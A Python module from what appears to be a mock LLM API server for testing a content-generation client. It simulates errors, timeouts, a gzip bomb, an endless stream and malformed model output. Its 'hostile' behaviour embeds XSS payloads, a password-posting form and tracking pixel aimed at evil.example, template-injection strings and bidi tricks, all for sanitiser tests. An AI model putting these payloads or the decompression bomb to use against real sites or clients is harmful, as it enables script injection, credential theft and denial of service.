# License AGPL-3.0 or later (https://www.gnu.org/licenses/agpl).
"""What the server can be asked to do: one small function for each behaviour.

The model's name chooses: ``good``, ``latency-2.5``, ``flaky-2``; several are joined
by a plus sign and take effect from left to right: ``latency-1+hostile``. Numbers
after the name are its arguments. An API key ``as-<behaviours>`` overrules the model,
also where no model is named (the list of models); a key that starts with ``bad`` is
refused with 401, one that starts with ``forbidden`` with 403.

Names of well-known model families (``gpt-…``, ``claude-…``) behave like ``good``; any
other unknown name is answered with the protocol's 404.
"""

import email.utils
import gzip
import json
import math
import re
import time

from .composer import FIELDS
from .protocols import Fault

BEHAVIOURS = {}
FAMILIES = ("gpt", "claude", "gemini", "mistral", "llama", "qwen", "o3", "o4", "grok")

# 90 % of a normal distribution lie within this many standard deviations.
Z_90 = 1.6449


def behaviour(example, description):
    """Register a function under its example's name, without the numbers."""

    def register(function):
        name, _arguments = split(example)
        BEHAVIOURS[name] = (function, example, description)
        return function

    return register


def writing(example, description):
    """Register a behaviour of articles: a call without a topic stays good."""

    def register(function):
        def act(call):
            if call.topic:
                function(call)

        behaviour(example, description)(act)
        return function

    return register


def split(part):
    """``"latency-2.5"`` becomes ``("latency", [2.5])``."""
    found = re.fullmatch(r"(.+?)((?:-\d+(?:\.\d+)?)*)", part)
    if not found:
        return part, []
    return found[1], [float(number) for number in found[2].split("-")[1:]]


def apply(names, call):
    """Let every behaviour named in ``names`` act on the call.

    :raise Fault: the error that the behaviour, or an unknown name, is answered with
    """
    for part in names.split("+"):
        name, arguments = split(part)
        if name in BEHAVIOURS:
            BEHAVIOURS[name][0](call, *arguments)
        elif not name.rpartition("/")[2].startswith(FAMILIES):
            message = f"The model `{part}` does not exist"
            raise Fault("not_found", message, param="model")


def examples():
    """Return a model's name for each behaviour; GET /models offers them."""
    return sorted(example for _function, example, _text in BEHAVIOURS.values())


def table():
    """Return the behaviours as lines of text, for the command line."""
    width = max(len(example) for _function, example, _text in BEHAVIOURS.values())
    return "\n".join(
        f"  {example:<{width}}  {text}"
        for _function, example, text in BEHAVIOURS.values()
    )


# -- good answers and time -------------------------------------------------------


@behaviour("good", "an article of about 800 words, another one for each topic")
def good(call):
    pass


@behaviour("latency-2.5", "good after 2.5 seconds")
def latency(call, seconds=1.0):
    call.wait(seconds)


@behaviour("lognormal-8-25", "good; 5 % come before 8 s, 5 % after 25 s (seeded)")
def lognormal(call, fast=8.0, slow=25.0):
    low, high = math.log(fast), math.log(slow)
    spread = (high - low) / (2 * Z_90)
    call.wait(call.rng.lognormvariate((low + high) / 2, spread))


@behaviour("hold", "good once the test calls release()")
def hold(call):
    call.wait(None)


@behaviour("never", "accepts the call and never answers")
def never(call):
    call.wait(None, releasable=False)


@behaviour("reasoning", "good; 512 reasoning and 128 cached tokens in its usage")
def reasoning(call):
    call.cached, call.reasoning = 128, 512


@behaviour("no-usage", "good, without any usage")
def no_usage(call):
    call.change(lambda payload: payload.pop("usage"))


# -- refusals by status ----------------------------------------------------------


@behaviour("quota", "429 insufficient_quota (Anthropic: 402 billing_error)")
def quota(call):
    raise Fault("quota", "You exceeded your current quota, check your plan.")


@behaviour("credit", "402 as OpenRouter says it (Anthropic: 400, credit balance)")
def credit(call):
    raise Fault("credit", "Your credit balance is too low. Purchase more credits.")


@behaviour("rate-limit-2", "429 with Retry-After: 2 (without a number: no header)")
def rate_limit(call, seconds=None):
    headers = {} if seconds is None else {"Retry-After": f"{seconds:.12g}"}
    raise Fault("rate_limit", "Rate limit reached for requests.", headers)


@behaviour("rate-limit-date-60", "429 with Retry-After as a date 60 seconds ahead")
def rate_limit_date(call, seconds=60.0):
    date = email.utils.formatdate(time.time() + seconds, usegmt=True)
    raise Fault("rate_limit", "Rate limit reached.", {"Retry-After": date})


@behaviour("rate-limit-once-1", "a topic's first call: 429, Retry-After: 1; then good")
def rate_limit_once(call, seconds=1.0):
    if call.nth == 1:
        rate_limit(call, seconds)


@behaviour("flaky-2", "the first 2 calls of a topic: 500; then good")
def flaky(call, failures=1.0):
    if call.nth <= failures:
        error(call)


@behaviour("error-500", "that status, with the protocol's error body")
def error(call, status=500.0):
    raise Fault("server_error", "The server had an error.", status=int(status))


@behaviour("overloaded", "503 (Anthropic: 529)")
def overloaded(call):
    raise Fault("overloaded", "Overloaded")


@behaviour("bad-request", "400 that names no parameter")
def bad_request(call):
    raise Fault("bad_request", "This request cannot be served.")


@behaviour("list-error", "400 whose body is a JSON list, as Gemini sends it")
def list_error(call):
    call.status = 400
    call.encode = lambda payload: json.dumps(
        [{"error": {"code": 400, "message": "Bad value", "status": "INVALID_ARGUMENT"}}]
    )


@behaviour("ok-error", "status 200 with an error in the body, as OpenRouter sends it")
def ok_error(call):
    call.encode = lambda payload: json.dumps(
        {"error": {"code": 502, "message": "Provider returned error"}}
    )


@behaviour("choice-error", "status 200 with an error inside the choice (OpenRouter)")
def choice_error(call):
    failure = {"error": {"code": 502, "message": "Provider disconnected"}}
    call.change(lambda payload: payload.update(choices=[failure], content=None))


@behaviour("redirect", "307 to another address of this server")
def redirect(call):
    call.status = 307
    call.reply_headers["Location"] = "/v1/redirected"


# -- refused parameters ----------------------------------------------------------


def refuse(call, status, message, *names):
    for name in names:
        if name in call.body:
            raise Fault("bad_request", message.format(name), status=status, param=name)


@behaviour("no-json-schema", "400 to structured output by schema; good without")
def no_json_schema(call):
    if call.body.get("response_format", {}).get("type") != "json_object":
        no_response_format(call)


@behaviour("no-response-format", "400 to any structured output; good without")
def no_response_format(call):
    message = "This model does not support {}"
    refuse(call, 400, message, "response_format", "output_config")


@behaviour("no-max-tokens", "400 to max_tokens, wants max_completion_tokens (OpenAI)")
def no_max_tokens(call):
    if call.protocol.name == "openai_chat":
        message = "Unsupported parameter: '{}'. Use 'max_completion_tokens' instead."
        refuse(call, 400, message, "max_tokens")


@behaviour("strict-extra", "422 extra_forbidden to what only OpenAI knows (Mistral)")
def strict_extra(call):
    allowed = {"model", "messages", "max_tokens", "response_format", "system"}
    for name in set(call.body) - allowed:
        call.status = 422
        detail = {"type": "extra_forbidden", "loc": ["body", name]}
        call.encode = lambda payload, detail=detail: json.dumps(
            {"object": "error", "message": {"detail": [detail]}}
        )


# -- broken answers --------------------------------------------------------------


@behaviour("malformed", "status 200 and JSON cut off in the middle")
def malformed(call):
    call.encode = lambda payload: json.dumps(payload)[:-40]


@behaviour("html", "status 200 and a web page")
def html(call):
    call.reply_headers["Content-Type"] = "text/html; charset=utf-8"
    call.encode = lambda payload: "<!doctype html><title>Sign in</title><p>Sign in"


@behaviour("empty", "status 200 and an empty body")
def empty(call):
    call.encode = lambda payload: ""


@behaviour("null-choices", "an answer whose choices (Anthropic: content) are null")
def null_choices(call):
    name = "choices" if call.protocol.name == "openai_chat" else "content"
    call.change(lambda payload: payload.update({name: None}))


@behaviour("wrong-types", "an answer whose usage and choices have other types")
def wrong_types(call):
    call.change(
        lambda payload: payload.update(usage="many", choices={"0": 1}, content=7)
    )


@behaviour("blank", "a complete answer with an empty text")
def blank(call):
    call.wrap = lambda text: ""


@behaviour("truncated", "stops in the middle of the text because of the limit")
def truncated(call):
    call.finish = "length"
    call.wrap = lambda text: text[: len(text) // 2]


@behaviour("refusal", "the model declines to write")
def refusal(call):
    call.finish = "refusal"
    call.wrap = lambda text: "I cannot help with that."


@behaviour("filtered", "stopped by a content filter (Anthropic: refusal)")
def filtered(call):
    refusal(call)
    if call.protocol.name == "openai_chat":
        call.finish = "content_filter"


# -- the connection --------------------------------------------------------------


@behaviour("disconnect", "closes the connection without a byte")
def disconnect(call):
    call.deliver = lambda head, body: None


@behaviour("disconnect-half-way", "closes the connection in the middle of the body")
def disconnect_half_way(call):
    call.deliver = lambda head, body: call.send(head + body[: len(body) // 2])


@behaviour("drip-1", "sends the body one byte a second")
def drip(call, seconds=1.0):
    def deliver(head, body):
        call.send(head)
        call.drip(body, seconds)

    call.deliver = deliver


@behaviour("drip-headers-1", "sends even the headers one byte a second")
def drip_headers(call, seconds=1.0):
    call.deliver = lambda head, body: call.drip(head + body, seconds)


@behaviour("endless", "a body without end, as fast as it is read")
def endless(call):
    call.reply_headers["Transfer-Encoding"] = "chunked"

    def deliver(head, body):
        call.send(head)
        blanks = b"10000\r\n" + b" " * 0x10000 + b"\r\n"
        while True:
            call.send(blanks)

    call.deliver = deliver


@behaviour("bomb", "64 MB of blanks in front of the answer, packed to 64 kB")
def bomb(call):
    call.reply_headers["Content-Encoding"] = "gzip"
    call.encode = lambda payload: gzip.compress(
        b" " * 0x4000000 + json.dumps(payload).encode()
    )


# -- what the model wrote --------------------------------------------------------


@writing("fenced", "the JSON stands in a Markdown code fence")
def fenced(call):
    call.wrap = lambda text: f"```json\n{text}\n```"


@writing("chatty", "the JSON stands between two friendly sentences")
def chatty(call):
    call.wrap = lambda text: f"Sure! Here it is:\n\n{text}\n\nAnything else? {{}}"


@writing("raw-newlines", "line breaks inside JSON strings are not escaped")
def raw_newlines(call):
    call.wrap = lambda text: text.replace("\\n", "\n")


@writing("prose", "plain text instead of JSON")
def prose(call):
    call.wrap = lambda text: call.article["body"]


@writing("no-body", "the article lacks its body")
def no_body(call):
    call.article.pop("body", None)


@writing("short-body", "the article's body is one sentence")
def short_body(call):
    call.article["body"] = "A single sentence."


@writing("nested", "every field is a list or an object instead of a string")
def nested(call):
    call.article.update({name: [{"text": call.article[name]}] for name in FIELDS})


@writing("no-social", "the copies for the four networks are empty")
def no_social(call):
    call.article.update(dict.fromkeys(FIELDS[-4:], ""))


@writing("too-long-social", "each copy is longer than its network allows")
def too_long_social(call):
    for name, limit in zip(FIELDS[-4:], (280, 300, 500, 3000), strict=True):
        copy = call.article[name]
        call.article[name] = copy + " Read it." * (1 + (limit - len(copy)) // 9)


@writing("too-long-seo", "SEO title of 300, SEO description of 900 characters")
def too_long_seo(call):
    call.article["seo_title"] = ("A long title. " * 22)[:300]
    call.article["seo_description"] = ("A long description. " * 46)[:900]


@writing("wrong-language", "the article is German, whatever was asked for")
def wrong_language(call):
    call.article.update(call.composer.german())


HOSTILE_BODY = """\
<script>alert("script")</script>
<img src=x onerror=alert(1)><svg onload=alert(2)><a xlink:href="javascript:alert(3)">
<iframe src="https://evil.example/frame"></iframe><style>body{display:none}</style>
<p t-out="user.password" t-att-onclick="1" data-oe-model="res.users">out</p>
<form action="https://evil.example/form"><input name="password"></form>

[script link](javascript:alert(4)) [data link](data:text/html;base64,PHNjcmlwdD4=)
[vb](vbscript:msgbox) [tab](java\tscript:alert(5)) [file](file:///etc/passwd)
[foreign](https://evil.example/phish) [no scheme](//evil.example/x)
<https://evil.example/auto> https://evil.example/bare
[reference][r] ![pixel](https://evil.example/pixel.gif?u=1) ![d](data:image/svg+xml,x)

[r]: https://evil.example/reference "title"

Runs \u202ebackwards\u202c, hides\u200b\u2066 things\u2069, rings\x07\x00 \ud800.

| t-call | {{ object.env }} |
|---|---|
| <details open ontoggle=alert(6)> | ${7*7} %(key)s |
"""


@writing("hostile", "scripts, handlers, t-out, tracking images, bidi, foreign links")
def hostile(call):
    call.article["body"] += "\n\n" + HOSTILE_BODY
    for name in set(FIELDS) - {"body"}:
        call.article[name] = (
            f"\u202e{call.article[name]}\x07 <b onclick=alert(7)>b</b>"
            " https://evil.example/field @everyone"
        )
